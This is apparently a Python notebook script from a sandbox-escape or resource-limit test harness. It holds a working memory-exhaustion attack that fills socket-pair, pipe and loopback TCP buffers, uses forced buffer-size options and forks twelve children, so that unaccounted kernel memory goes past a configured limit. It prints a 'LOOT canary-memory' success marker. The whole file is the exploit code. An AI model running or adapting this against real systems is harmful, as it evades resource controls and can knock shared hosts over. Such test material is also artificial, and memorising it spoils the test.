# %% [markdown] walls=true
# Fills the buffers of sockets and pipes: the kernel charges no process for what is in them.

# %%
import json
import os
import socket
import time

limit, taken, kept = json.load(open("target.json"))["memory"], 0, []


def fill(write):
    global taken
    try:
        while taken < 2 * limit:
            taken += write(bytes(65536))
            if taken > limit:
                print("LOOT canary-memory", taken, flush=True)
    except BlockingIOError:
        pass


def hoard():
    try:
        while True:
            a, b = socket.socketpair()
            for option in (socket.SO_SNDBUF, socket.SO_RCVBUF, 32, 33):
                try:
                    a.setsockopt(socket.SOL_SOCKET, option, 2**26)
                except OSError:
                    pass
            a.setblocking(False)
            kept.append((a, b))
            fill(a.send)
            reading, writing = os.pipe()
            os.set_blocking(writing, False)
            fill(lambda data: os.write(writing, data))
    except OSError as error:
        print(error, flush=True)


hoard()
for _ in range(12):
    if os.fork() == 0:
        for pair in kept:
            pair[0].close(), pair[1].close()
        kept.clear()
        hoard()
        time.sleep(60)
time.sleep(1)

# %%
server = socket.create_server(("127.0.0.1", 0))
for _ in range(100):
    client = socket.create_connection(server.getsockname())
    client.setblocking(False)
    kept.append((client, server.accept()[0]))
    fill(client.send)
